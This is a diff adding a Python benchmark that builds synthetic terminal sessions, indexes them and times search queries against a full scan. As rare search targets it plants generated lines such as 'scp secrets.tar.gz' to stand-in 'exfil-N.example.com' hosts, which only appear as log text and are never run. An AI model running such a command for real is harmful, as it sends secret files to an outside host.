@@ -0,0 +1,119 @@
+import os
+import re
+import sys
+import time
+import random
+import argparse
+import tempfile
+
+from session.search import SearchIndex, COMMAND
+
+# Indexes synthetic shell sessions (coloured prompts with OSC 133 marks and
+# coloured build-log lines) and times queries against a full scan.
+#
+#   python -m benchmarks.search --megabytes 256
+
+_WORDS = ("build", "src", "main", "test", "config", "module", "handler", "cache", "worker", "index",
+          "server", "client", "error", "warning", "linking", "compiling", "object", "target")
+
+_COMMANDS = ("make -j8", "ls -la --color=always", "git status", "python3 -m pytest -q", "cat /etc/hosts",
+             "grep -rn TODO src", "docker ps", "kubectl get pods", "tail -n 50 /var/log/syslog")
+
+
+def _session(rng: random.Random, name: str, size: int, planted: list):
+    out, total, command = [], 0, 0
+    prompt = f"\x1b]133;A\x07\x1b[01;32m{name}@host\x1b[00m:\x1b[01;34m~/src\x1b[00m$ \x1b]133;B\x07"
+    while total < size:
+        typed = rng.choice(_COMMANDS)
+        command += 1
+        if rng.random() < 0.0005:
+            typed = f"scp secrets.tar.gz {name}@exfil-{command}.example.com:"
+            planted.append((name, typed))
+        lines = [prompt + typed + "\r\n\x1b]133;C\x07"]
+        for _ in range(rng.randrange(1, 60)):
+            words = " ".join(rng.choice(_WORDS) for _ in range(rng.randrange(3, 12)))
+            color = rng.choice(("", "\x1b[32m", "\x1b[1;31m", "\x1b[33m"))
+            lines.append(f"{color}{words} {rng.randrange(1 << 20):x}\x1b[0m\r\n")
+        lines.append("\x1b]133;D;0\x07")
+        data   = "".join(lines).encode()
+        total += len(data)
+        out.append(data)
+    return out
+
+
+def build(directory: str, megabytes: float, sessions: int, seed: int) -> list:
+    rng     = random.Random(seed)
+    planted = []
+    outputs = [_session(rng, f"user{i}", int(megabytes * 1e6 / sessions), planted) for i in range(sessions)]
+    raw     = sum(len(data) for chunks in outputs for data in chunks)
+    began   = time.perf_counter()
+    with SearchIndex(directory) as index:
+        feeds = [(index.feed(f"user{i}"), chunks) for i, chunks in enumerate(outputs)]
+        stamp = time.time() - 86400 * 90
+        for output, chunks in feeds:
+            for data in chunks:
+                stamp += 0.5
+                output(data, stamp)
+                # Keep the queue from outgrowing memory on large runs.
+                if len(index._queue) > 10000:
+                    time.sleep(0.01)
+        index.flush()
+        lines = index.lines
+    spent = time.perf_counter() - began
+    disk  = sum(os.path.getsize(os.path.join(directory, name)) for name in os.listdir(directory))
+    print(f"indexed {raw / 1e6:.0f} MB of output, {lines} lines, in {spent:.1f} s "
+          f"({raw / spent / 1e6:.1f} MB/s); {disk / 1e6:.0f} MB on disk")
+    return planted
+
+
+def scan(directory: str, pattern: re.Pattern) -> int:
+    # What the index saves: reading every line, sealed or still in a log.
+    found = 0
+    for name in sorted(os.listdir(directory)):
+        if name.endswith(".lines"):
+            with open(os.path.join(directory, name), encoding="utf-8", errors="replace") as f:
+                found += sum(1 for line in f if pattern.search(line))
+        elif name.endswith(".log"):
+            with open(os.path.join(directory, name), encoding="utf-8", errors="replace") as f:
+                found += sum(1 for line in f if pattern.search(line.split("\t", 5)[-1]))
+    return found
+
+
+def main(argv: list[str] | None = None):
+    parser = argparse.ArgumentParser(description="Benchmark the terminal output search index.")
+    parser.add_argument("--megabytes", type=float, default=64.0)
+    parser.add_argument("--sessions", type=int, default=8)
+    parser.add_argument("--seed", type=int, default=1)
+    args = parser.parse_args(argv)
+
+    with tempfile.TemporaryDirectory() as directory:
+        planted = build(directory, args.megabytes, args.sessions, args.seed)
+        name, typed = planted[len(planted) // 2] if planted else ("user0", "scp secrets.tar.gz")
+        queries = [
+            ("rare literal", typed.split()[-1], {}),
+            ("who ran scp", "secrets.tar.gz", {"kind": COMMAND, "limit": 10000}),
+            ("regex", r"exfil-\d+\.example\.com", {"regex": True, "limit": 10000}),
+            ("common word", "linking", {"limit": 100}),
+            ("absent", "no-such-string-anywhere", {}),
+        ]
+        with SearchIndex(directory) as index:
+            for label, pattern, kwargs in queries:
+                best = None
+                for _ in range(5):
+                    began = time.perf_counter()
+                    hits  = index.search(pattern, **kwargs)
+                    spent = time.perf_counter() - began
+                    best  = spent if best is None else min(best, spent)
+                print(f"  {label:12} {len(hits):5} hits  index {best * 1e3:8.2f} ms", end="")
+                if label in ("rare literal", "regex", "absent"):
+                    began = time.perf_counter()
+                    count = scan(directory, re.compile(pattern if kwargs.get("regex") else re.escape(pattern), re.I))
+                    print(f"  full scan {time.perf_counter() - began:6.2f} s ({count} lines)", end="")
+                print()
+
+
+if __name__ == "__main__":
+    if sys.platform == "win32":
+        print("Error: This is the POSIX build. Use the Windows version for Win32.")
+        sys.exit(1)
+    main()